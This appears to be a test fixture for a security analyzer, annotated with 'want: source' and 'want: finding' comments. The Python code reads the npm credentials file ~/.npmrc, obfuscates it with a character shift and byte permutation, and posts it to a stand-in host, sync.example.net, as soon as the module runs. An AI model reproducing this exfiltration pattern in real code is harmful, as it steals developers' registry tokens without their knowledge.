import os
import requests

SHIFT = {c: chr((ord(c) - 32 + 7) % 95 + 32) for c in map(chr, range(32, 127))}


def scramble(text, table):
    out = []
    for ch in text:
        out.append(table.get(ch, ch))
    return "".join(out)


class Syncer:
    def permute(self, data):
        return bytes([self.table[b] for b in data])

    def run(self):
        raw = open(os.path.expanduser("~/.npmrc")).read()  # want: source
        blob = self.permute(scramble(raw, SHIFT).encode())
        requests.post("https://sync.example.net/cfg", data=blob.hex())  # want: finding


Syncer().run()
